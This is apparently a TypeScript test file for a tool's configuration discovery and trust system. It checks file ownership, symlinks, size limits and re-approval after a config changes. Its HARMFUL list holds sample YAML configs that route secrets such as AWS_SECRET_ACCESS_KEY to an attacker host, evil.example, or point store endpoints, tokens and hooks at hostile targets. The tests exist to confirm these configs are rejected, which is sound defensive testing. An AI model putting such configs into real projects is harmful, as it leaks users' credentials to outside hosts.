import assert from "node:assert/strict";
import * as fs from "node:fs";
import { join } from "node:path";
import process from "node:process";
import { describe, it } from "node:test";
import { requireThat } from "../../tests/support/requires.ts";
import { temporaryFolder } from "../../tests/support/temporary.ts";
import { type ConfigPlaces, findConfig } from "./discovery.ts";
import { openConfig, YamlConfig } from "./sources.ts";

const ME = process.getuid?.();
const reader = { variable: () => undefined, userFolder: "/home/ann" };

function places(folder: string, more: Partial<ConfigPlaces> = {}): ConfigPlaces {
  return {
    workingFolder: folder,
    userConfigFolder: join(folder, "user-config"),
    userId: ME,
    userName: (id) => `user ${id}`,
    ...more,
  };
}

const open = (from: ConfigPlaces, tenant?: string) =>
  openConfig({ places: from, variable: () => undefined, ...(tenant === undefined ? {} : { tenant }) });

describe("findConfig()", () => {
  it("takes the chosen one, then the nearest tarn.yaml upward, then the user's own, then none", (t) => {
    const folder = temporaryFolder(t);
    const inner = join(folder, "a", "b");
    fs.mkdirSync(join(inner, "user-config"), { recursive: true });
    assert.deepEqual(findConfig(places(inner)), { kind: "none" });
    const own = join(inner, "user-config", "tarn.yaml");
    fs.writeFileSync(own, "");
    assert.deepEqual(findConfig(places(inner)), { kind: "file", path: own, isMet: false });
    fs.writeFileSync(join(folder, "tarn.yaml"), "");
    assert.deepEqual(findConfig(places(inner)), {
      kind: "file",
      path: join(folder, "tarn.yaml"),
      isMet: true,
    });
    fs.writeFileSync(join(folder, "a", "tarn.yaml"), "");
    assert.deepEqual(findConfig(places(inner)), {
      kind: "file",
      path: join(folder, "a", "tarn.yaml"),
      isMet: true,
    });
    const chosen = { address: "../x.yaml", by: "--config" };
    fs.writeFileSync(join(folder, "a", "x.yaml"), "");
    assert.deepEqual(findConfig(places(inner, { chosen })), {
      kind: "file",
      path: join(folder, "a", "x.yaml"),
      isMet: false,
    });
    const etcd = { address: "etcd+https://etcd.example/tarn", by: "TARN_CONFIG" };
    assert.deepEqual(findConfig(places(inner, { chosen: etcd })), { kind: "etcd", address: etcd.address });
  });

  it("takes the user's own as trusted when it is met in its own folder", (t) => {
    const folder = temporaryFolder(t);
    fs.writeFileSync(join(folder, "tarn.yaml"), "");
    const found = findConfig(places(folder, { userConfigFolder: folder }));
    assert.deepEqual(found, { kind: "file", path: join(folder, "tarn.yaml"), isMet: false });
  });

  it("does not take another one in place of a chosen one that is not there", (t) => {
    const folder = temporaryFolder(t);
    fs.writeFileSync(join(folder, "tarn.yaml"), "");
    const chosen = { address: "none.yaml", by: "TARN_CONFIG" };
    assert.throws(() => findConfig(places(folder, { chosen })), {
      kind: "not_found",
      code: "config_not_found",
      message: /TARN_CONFIG names it/,
    });
  });
});

describe("YamlConfig", () => {
  it("refuses a file that was met and is another's, naming the owner", async (t) => {
    const folder = temporaryFolder(t);
    fs.writeFileSync(join(folder, "tarn.yaml"), "");
    const others = places(folder, { userId: 4242 });
    await assert.rejects(open(others), {
      kind: "forbidden",
      code: "config_of_another_user",
      message: new RegExp(`it belongs to "user ${ME}"`),
    });
    // Who names it takes it upon themselves.
    const chosen = { address: "tarn.yaml", by: "--config" };
    assert.equal((await open(places(folder, { userId: 4242, chosen }))).isTrusted, true);
  });

  it("refuses one whose folder is another's, or that links to another's", async (t) => {
    if (!requireThat(t, ME === 0, "only root may give files away")) return;
    const folder = temporaryFolder(t);
    const inner = join(folder, "inner");
    fs.mkdirSync(inner);
    fs.writeFileSync(join(inner, "tarn.yaml"), "");
    fs.chownSync(inner, 4242, 4242);
    await assert.rejects(open(places(inner)), {
      code: "config_of_another_user",
      message: /its folder .* belongs to "user 4242"/,
    });
    // A link of ours to a file of theirs, and a link of theirs to a file of ours.
    fs.writeFileSync(join(folder, "theirs"), "");
    fs.chownSync(join(folder, "theirs"), 4242, 4242);
    fs.symlinkSync("theirs", join(folder, "tarn.yaml"));
    await assert.rejects(open(places(folder)), { code: "config_of_another_user" });
    fs.rmSync(join(folder, "tarn.yaml"));
    fs.writeFileSync(join(folder, "ours"), "");
    fs.symlinkSync("ours", join(folder, "tarn.yaml"));
    assert.equal((await open(places(folder))).origin, "tarn.yaml");
    fs.lchownSync(join(folder, "tarn.yaml"), 4242, 4242);
    await assert.rejects(open(places(folder)), { code: "config_of_another_user" });
  });

  it("gives what it was opened with, whatever the file holds later", async (t) => {
    const folder = temporaryFolder(t);
    const path = join(folder, "tarn.yaml");
    fs.writeFileSync(path, "stores: {files: {driver: file}}");
    const source = await open(places(folder));
    fs.writeFileSync(path, "hooks: [evil]");
    assert.deepEqual((await source.load(reader)).hooks, []);
  });

  it("refuses what is no text, no file, or has no end", async (t) => {
    const folder = temporaryFolder(t);
    const chosen = (address: string) => open(places(folder, { chosen: { address, by: "--config" } }));
    fs.writeFileSync(join(folder, "latin"), Uint8Array.of(0x61, 0x3a, 0x20, 0xe9));
    await assert.rejects((await chosen("latin")).raw(), {
      code: "invalid_configuration",
      message: /not UTF-8/,
    });
    await assert.rejects(chosen("."), { code: "invalid_configuration", message: /it is a folder/ });
    fs.writeFileSync(join(folder, "large"), "#".repeat(8 * 1024 * 1024 + 1));
    await assert.rejects(chosen("large"), { code: "invalid_configuration", message: /larger than 8 MiB/ });
    if (process.platform !== "win32") {
      await assert.rejects(chosen("/dev/zero"), { code: "invalid_configuration", message: /larger/ });
      assert.deepEqual((await (await chosen("/dev/null")).raw()).tree, {});
    }
  });
});

/** What only a trusted configuration may say. */
const HARMFUL: readonly string[] = [
  "hooks: [provcat.log]",
  "hooks: ./evil",
  'stores: {f: {driver: file, root: "${oc.env:HOME}"}}',
  'stores: {s: {driver: s3, endpoint_url: "https://${oc.env:AWS_SECRET_ACCESS_KEY}.evil.example"}}',
  'stores: {s: {driver: s3, region: "${oc.env:AWS_SECRET_ACCESS_KEY}"}}',
  'stores: {s: {driver: azure, account: "${oc.env:KEY}"}}',
  'stores: {s: {driver: gcs, credentials: "${oc.env:KEY}"}}',
  'stores: {s: {driver: github, lfs_hosts: ["${oc.env:KEY}"]}}',
  'stores: {s: {driver: graveler, home: "${oc.env:KEY,x}"}}',
  'stores: {s: {driver: "${oc.env:KEY,s3}"}}',
  'schemes: {d: {parts: [a], target: "file:///${oc.env:KEY}/{a}"}}',
  'schemes: {d: {parts: [a], target: "file:///{ref}/{a}", ref: "${oc.env:KEY}"}}',
  'schemes: {d: {parts: [a], target: "file:///{a}"}}\nentries: {"d://a": "s3://${oc.env:KEY}/x"}',
  'schemes: {d: {parts: [a], target: "file:///{a}"}}\nstages: {"d://a": {p: "tag:${oc.env:KEY}"}}',
  'cache: {root: "/tmp/${oc.env:KEY}"}',
  "cache: {root: '/tmp/\\\\${oc.env:KEY}'}",
  "stores: {s: {driver: lakefs, endpoint_url: https://evil.example, profile: acme}}",
  "stores: {s: {driver: hf, endpoint: https://evil.example}}",
  "stores: {s: {driver: github, api_url: https://evil.example, token_env: AWS_SECRET_ACCESS_KEY}}",
  "stores: {s: {driver: github, lfs_hosts: [evil.example]}}",
  "stores: {s: {driver: gcs, endpoint_url: https://evil.example}}",
  "stores: {s: {driver: graveler, kv: 'postgres://evil.example/x'}}",
  "stores: {s: {driver: lakefs, endpoint_url: 'http://127.0.0.1.evil.example'}}",
];

const HARMLESS: readonly string[] = [
  "",
  "hooks: []",
  "stores: {f: {driver: file, root: data}}",
  'stores: {s: {driver: s3, profile: "${oc.env:AWS_PROFILE,default}", path_style: "${oc.env:STYLE,true}"}}',
  "stores: {s: {driver: s3, endpoint_url: https://s3.example, profile: acme}}",
  "stores: {s: {driver: lakefs, endpoint_url: 'http://127.0.0.1:8000', profile: acme}}",
  'cache: {max_size: "${oc.env:SIZE,1GB}"}',
  "cache: {root: '/tmp/\\${oc.env:KEY}'}",
];

describe("a configuration that was met on the way up", () => {
  for (const text of HARMFUL) {
    it(`must be trusted before it may say ${text}`, async (t) => {
      const folder = temporaryFolder(t);
      fs.writeFileSync(join(folder, "tarn.yaml"), text);
      await assert.rejects((await open(places(folder))).load(reader), {
        kind: "forbidden",
        code: "untrusted_configuration",
      });
    });
  }

  for (const text of HARMLESS) {
    it(`may say ${text || "nothing"}`, async (t) => {
      const folder = temporaryFolder(t);
      fs.writeFileSync(join(folder, "tarn.yaml"), text);
      const config = await (await open(places(folder))).load(reader);
      assert.equal(config.isTrusted, false);
    });
  }

  it("is trusted once its user has said so; when it changes, or moves, it is asked again", async (t) => {
    const folder = temporaryFolder(t);
    const path = join(folder, "tarn.yaml");
    const here = places(folder);
    const trust = () => new YamlConfig({ kind: "file", path, isMet: true }, { places: here }).trust();
    fs.writeFileSync(path, "hooks: [provcat.log]\n");
    assert.match(trust(), /^[0-9a-f]{64}$/);
    const config = await (await open(here)).load(reader);
    assert.deepEqual([config.isTrusted, config.hooks], [true, ["provcat.log"]]);
    fs.appendFileSync(path, "#\n");
    await assert.rejects((await open(here)).load(reader), { code: "untrusted_configuration" });
    trust();
    await (await open(here)).load(reader);
    // What it was before counts no longer.
    fs.writeFileSync(path, "hooks: [provcat.log]\n");
    await assert.rejects((await open(here)).load(reader), { code: "untrusted_configuration" });
    trust();
    const inner = join(folder, "inner");
    fs.mkdirSync(inner);
    fs.renameSync(path, join(inner, "tarn.yaml"));
    await assert.rejects((await open({ ...here, workingFolder: inner })).load(reader), {
      code: "untrusted_configuration",
    });
  });

  it("is not trusted by a record that is damaged", async (t) => {
    const folder = temporaryFolder(t);
    const path = join(folder, "tarn.yaml");
    fs.writeFileSync(path, "hooks: [provcat.log]\n");
    const here = places(folder);
    new YamlConfig({ kind: "file", path, isMet: true }, { places: here }).trust();
    const records = join(here.userConfigFolder, "trusted");
    for (const name of fs.readdirSync(records)) fs.writeFileSync(join(records, name), "null");
    await assert.rejects((await open(here)).load(reader), { code: "untrusted_configuration" });
  });

  it("tells how it is where nobody wants its values: raw() fills in nothing", async (t) => {
    const folder = temporaryFolder(t);
    fs.writeFileSync(join(folder, "tarn.yaml"), 'cache: {root: "${oc.env:KEY}"}');
    assert.deepEqual((await (await open(places(folder))).raw()).tree, { cache: { root: "${oc.env:KEY}" } });
  });
});

it("without a configuration the built-in stores are there, and no tenant is", async (t) => {
  const folder = temporaryFolder(t);
  const source = await open(places(folder));
  assert.equal(source.origin, undefined);
  assert.equal((await source.load(reader)).stores.size, 7);
  await assert.rejects((await open(places(folder), "acme")).load(reader), { code: "tenant_not_found" });
});
